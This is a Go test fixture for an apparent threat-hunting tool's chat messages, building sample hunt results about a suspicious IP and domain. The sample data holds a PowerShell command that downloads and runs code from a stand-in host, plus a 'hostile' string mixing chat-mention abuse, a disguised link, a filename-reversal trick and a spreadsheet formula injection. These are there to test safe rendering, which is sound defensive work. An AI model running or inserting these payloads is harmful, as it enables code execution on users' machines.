package message

import (
	"fmt"
	"strings"
	"time"

	"github.com/footprint-soc/footprint/hunts"
	"github.com/footprint-soc/footprint/hunts/indicator"
	"github.com/footprint-soc/footprint/hunts/request"
)

// now is the instant of every golden message.
var now = time.Date(2026, 11, 3, 9, 12, 0, 0, time.UTC)

func before(d time.Duration) time.Time   { return now.Add(-d) }
func beforeP(d time.Duration) *time.Time { t := before(d); return &t }

// hostile is text as an attacker would put it into a host name, a command line
// or a note.
const hostile = "<!channel> <@U0ANALYST> <https://evil.example|click me> @here &amp; `code` *bold* | \u202egpj.exe\u202c \u200bzero \x1b[31mred\x1b[0m a\r\nb\x00 hxxp http://203.0.113.66/x =cmd|'/c calc'!A1"

func must(kind indicator.Kind, value string) indicator.Indicator {
	return indicator.Indicator{Kind: kind, Value: value}
}

// story is the hunt of the product's first journey.
func story() (hunts.Hunt, hunts.Answer) {
	h := hunts.Hunt{
		ID: "F-7QK2", Name: "network-footprint", Workspaces: []string{"prod-eu"}, State: hunts.Answered, Created: before(3 * time.Second),
		Request: request.Request{IPs: []indicator.Indicator{must("ip", "203.0.113.66")}, Domains: []indicator.Indicator{must("domain", "cdn-sync.example")}, Why: "ISAC tip"},
		Window:  hunts.Window{From: before(7 * 24 * time.Hour), To: now, Ago: 7 * 24 * time.Hour},
		Asker:   hunts.Asker{Team: "T0LOCAL01", User: "U0ANALYST", Name: "ana", Channel: "C0SOC"},
	}
	first, last := before(35*time.Hour), before(9*time.Minute)
	found := true
	a := hunts.Answer{
		HuntID: h.ID, Hunt: h.Name, Verdict: hunts.Reached, Reason: "3 devices completed a connection",
		Request:  hunts.AnswerRequest{IPs: []string{"203.0.113.66"}, Domains: []string{"cdn-sync.example"}, From: h.Window.From, To: h.Window.To, Why: "ISAC tip", AskedBy: "U0ANALYST"},
		Totals:   hunts.Totals{Events: 54, Devices: 4, Processes: 2, FirstSeen: &first, LastSeen: &last, Aggregated: 3},
		Outcomes: hunts.Outcomes{Reached: 51, Failed: 3},
		ByIndicator: []hunts.IndicatorResult{
			{Indicator: "203.0.113.66", Type: "ip", Verdict: hunts.Reached, Events: 38, Devices: 2, FirstSeen: &first, LastSeen: &last},
			{Indicator: "cdn-sync.example", Type: "domain", Verdict: hunts.Reached, Events: 51, Devices: 3, FirstSeen: &first, LastSeen: &last, Mark: "malicious (INC-4711)"},
		},
		ByDevice: []hunts.DeviceResult{
			device("ws-fin-014.corp.example", hunts.OutcomeReached, 30, first, last), device("ws-fin-031.corp.example", hunts.OutcomeReached, 18, first, last),
			device("ws-hr-002.corp.example", hunts.OutcomeReached, 3, first, last), device("srv-web-01.corp.example", hunts.OutcomeFailed, 3, first, last),
		},
		ByProcess: []hunts.ProcessResult{
			{Process: "powershell.exe", Parents: []string{"winword.exe"}, Events: 48, Devices: 2}, {Process: "rundll32.exe", Parents: []string{"services.exe"}, Events: 6, Devices: 1},
		},
		Timeline: []hunts.Bin{{Start: before(36 * time.Hour).Truncate(time.Hour), Events: 20}, {Start: before(time.Hour).Truncate(time.Hour), Events: 34}},
		Events: []hunts.Event{
			{Time: last, Device: "ws-fin-014.corp.example", Action: "ConnectionSuccess", Outcome: hunts.OutcomeReached, RemoteIP: "203.0.113.66", RemotePort: 443, RemoteHost: "api.cdn-sync.example",
				Process: "powershell.exe", CommandLine: "powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('https://api.cdn-sync.example/a')", Parent: "winword.exe", Account: "corp\\b.lee", Matched: []string{"203.0.113.66", "cdn-sync.example"}},
			{Time: first, Device: "srv-web-01.corp.example", Action: "ConnectionFailed", Outcome: hunts.OutcomeFailed, RemoteIP: "203.0.113.66", RemotePort: 443, Process: "rundll32.exe", Matched: []string{"203.0.113.66"}},
		},
		Excluded: []hunts.Exclusion{{Profile: "internal-dns", Events: 14}},
		Coverage: hunts.Coverage{SensorsReporting: 1942, SensorsKnown: 2010, NewestEvent: beforeP(4 * time.Minute), Complete: true, ControlFound: &found, Control: "control.example", Slices: days(h.Window.From, 7)},
		Source:   hunts.SourceInfo{Kind: "log-analytics", Workspace: "prod-eu", Queries: 7, TookMS: 2100, ExpiresAt: beforeP(-15 * time.Minute)},
		KQL:      "let ips = dynamic([\"203.0.113.66\"]);\nDeviceNetworkEvents\n| where TimeGenerated >= datetime(2026-10-27)\n",
		Rows: []hunts.Row{
			{Device: "ws-fin-014.corp.example", Account: "corp\\b.lee", Process: "powershell.exe", Parent: "winword.exe", RemoteIP: "203.0.113.66", RemoteHost: "api.cdn-sync.example", Outcome: hunts.OutcomeReached,
				Matched: []string{"203.0.113.66", "cdn-sync.example"}, Because: []string{"exact address", "sub-domain of cdn-sync.example"}, Events: 30, FirstSeen: first, LastSeen: last},
			{Device: "ws-fin-031.corp.example", Process: "powershell.exe", Parent: "winword.exe", RemoteIP: "203.0.113.66", Outcome: hunts.OutcomeReached, Matched: []string{"203.0.113.66"}, Because: []string{"exact address"}, Events: 18, FirstSeen: first, LastSeen: last},
			{Device: "ws-hr-002.corp.example", RemoteHost: "cdn-sync.example", Outcome: hunts.OutcomeReached, Matched: []string{"cdn-sync.example"}, Because: []string{"exact name"}, Excluded: "internal-dns", Events: 3, FirstSeen: first, LastSeen: last},
			{Device: "srv-web-01.corp.example", Process: "rundll32.exe", Parent: "services.exe", RemoteIP: "203.0.113.66", Outcome: hunts.OutcomeFailed, Matched: []string{"203.0.113.66"}, Because: []string{"exact address"}, Events: 3, FirstSeen: first, LastSeen: first},
		},
		Notes:   []string{"3 inspected events carry no process"},
		Beacons: []hunts.Beacon{{Device: "ws-fin-014.corp.example", Process: "powershell.exe", Remote: "203.0.113.66", Interval: time.Minute, Spread: 2 * time.Second, Events: 1204}},
	}
	return h, a
}

func device(name string, o hunts.Outcome, events int64, first, last time.Time) hunts.DeviceResult {
	return hunts.DeviceResult{Device: name, Events: events, Processes: []string{"powershell.exe"}, Accounts: []string{"corp\\b.lee"}, Remotes: []string{"203.0.113.66"}, Outcome: o, FirstSeen: first, LastSeen: last, Matched: []string{"203.0.113.66"}}
}

func days(from time.Time, n int) []hunts.Slice {
	out := make([]hunts.Slice, n)
	for i := range out {
		out[i] = hunts.Slice{From: from.AddDate(0, 0, i), To: from.AddDate(0, 0, i+1), State: hunts.SliceDone}
	}
	return out
}

// empty takes everything that was found out of the story.
func empty(h hunts.Hunt, a hunts.Answer) (hunts.Hunt, hunts.Answer) {
	h.Request = request.Request{IPs: []indicator.Indicator{must("ip", "198.51.100.24")}}
	a.Request.IPs, a.Request.Domains = []string{"198.51.100.24"}, nil
	a.Verdict, a.Reason = hunts.Clean, "no sensor reported it"
	a.Totals, a.Outcomes, a.ByDevice, a.ByProcess, a.Timeline, a.Events, a.Rows, a.Excluded, a.Beacons, a.Notes = hunts.Totals{}, hunts.Outcomes{}, nil, nil, nil, nil, nil, nil, nil, nil
	a.ByIndicator = []hunts.IndicatorResult{{Indicator: "198.51.100.24", Type: "ip", Verdict: hunts.Clean}}
	return h, a
}

// narrowed is a clean hunt of an address through one file on one device: it
// says nothing about the address alone.
func narrowed() (hunts.Hunt, hunts.Answer) {
	h, a := empty(story())
	h.Request.Files, h.Request.Devices = []indicator.Indicator{must("file", "powershell.exe")}, []string{"ws-fin-014"}
	a.Request.Files, a.Request.Devices = []string{"powershell.exe"}, []string{"ws-fin-014"}
	a.Reason = "no sensor reported reaching or trying it through powershell.exe on ws-fin-014"
	a.ByIndicator = append(a.ByIndicator, hunts.IndicatorResult{Indicator: "powershell.exe", Type: "file", Verdict: hunts.Clean})
	a.Notes = []string{"Address or name and file were asked for together: the line of each counts only events that match both. Ask without file= for all of its contacts."}
	return h, a
}

// near is a clean hunt beside which something was reached.
func near() (hunts.Hunt, hunts.Answer) {
	h, a := empty(story())
	a.Neighbours = []hunts.Neighbour{
		{Of: "198.51.100.24", Remote: "198.51.100.67", Kind: "same /24", Devices: 2, Events: 9}, {Of: "198.51.100.24", Remote: "198.51.100.9", Kind: "same /24", Devices: 1, Events: 1},
	}
	return h, a
}

// unknown is a hunt that could not tell, for a reason.
func unknown(reason string, change func(*hunts.Answer)) (hunts.Hunt, hunts.Answer) {
	h, a := empty(story())
	a.Verdict, a.Reason, a.ByIndicator[0].Verdict = hunts.CouldNotTell, reason, hunts.CouldNotTell
	a.Coverage.Complete, a.Coverage.Problems = false, []string{reason}
	change(&a)
	return h, a
}

// manyIndicators is the story with n indicators, of which every fifth was met.
func manyIndicators(n int) (hunts.Hunt, hunts.Answer) {
	h, a := story()
	h.Request, a.ByIndicator = request.Request{}, nil
	for i := range n {
		value := fmt.Sprintf("198.51.%d.%d", 100+i/200, i%200)
		h.Request.IPs = append(h.Request.IPs, must("ip", value))
		r := hunts.IndicatorResult{Indicator: value, Type: "ip", Verdict: hunts.Clean}
		if i%5 == 4 {
			r.Verdict, r.Events, r.Devices, r.FirstSeen, r.LastSeen = hunts.Reached, int64(i), 2, beforeP(30*time.Hour), beforeP(time.Hour)
		}
		a.ByIndicator = append(a.ByIndicator, r)
	}
	return h, a
}

// manyRows is the story with n rows, texts as long as data can be.
func manyRows(n int, longText bool) (hunts.Hunt, hunts.Answer) {
	h, a := story()
	template := a.Rows[0]
	a.Rows, a.ByDevice, a.Truncated = nil, nil, hunts.Truncated{ByDevice: true, Rows: true, Events: true}
	for i := range n {
		r := template
		r.Device = fmt.Sprintf("ws-%05d.corp.example", i)
		if longText {
			r.Device, r.Process, r.RemoteHost = fmt.Sprint(i)+strings.Repeat("ж", 300), strings.Repeat("<", 300), strings.Repeat("a.", 300)+"example"
		}
		a.Rows = append(a.Rows, r)
		a.ByDevice = append(a.ByDevice, device(r.Device, r.Outcome, r.Events, r.FirstSeen, r.LastSeen))
	}
	a.Totals.Devices, a.Totals.Events = int64(n), int64(n)*30
	return h, a
}

// hostileStory has hostile text wherever text comes from outside.
func hostileStory(evil string) (hunts.Hunt, hunts.Answer) {
	h, a := story()
	h.Request.Why, h.Asker.Name, h.Asker.User, h.Workspaces = evil, evil, evil, []string{evil}
	h.Request.Devices, h.Followers = []string{evil}, []hunts.Asker{{User: evil}}
	a.Reason, a.Notes, a.Coverage.Problems, a.Coverage.Complete, a.Coverage.Proxy = evil, []string{evil, evil, evil, evil}, []string{evil}, false, evil
	a.Coverage.Slices[2].State, a.Coverage.Slices[2].Reason = hunts.SliceFailed, evil
	a.Excluded, a.Source.Workspace, a.Source.Shared = []hunts.Exclusion{{Profile: evil, Events: 2}}, evil, []string{evil}
	for i := range a.Rows {
		a.Rows[i].Device, a.Rows[i].Account, a.Rows[i].Process, a.Rows[i].Parent = evil, evil, evil, evil
		a.Rows[i].RemoteHost, a.Rows[i].Because, a.Rows[i].Excluded = evil, []string{evil}, evil
	}
	a.Rows[3].Process, a.Rows[3].Outcome = "x"+evil, "<!here>"
	for i := range a.Events {
		a.Events[i].Device, a.Events[i].Process, a.Events[i].CommandLine, a.Events[i].RemoteHost = evil, evil, evil+strings.Repeat(" A", 5000), evil
	}
	for i := range a.ByDevice {
		a.ByDevice[i].Device, a.ByDevice[i].Processes, a.ByDevice[i].Accounts = evil, []string{evil}, []string{evil}
	}
	for i := range a.ByProcess {
		a.ByProcess[i].Process, a.ByProcess[i].Parents = evil, []string{evil, evil}
	}
	a.Neighbours = []hunts.Neighbour{{Of: evil, Remote: evil, Kind: evil}, {Of: evil, Remote: evil, Kind: evil}}
	a.ByIndicator[0].Mark, a.ByIndicator[1].Indicator = evil, evil
	a.Beacons[0].Device, a.Beacons[0].Process, a.Beacons[0].Remote = evil, evil, evil
	return h, a
}
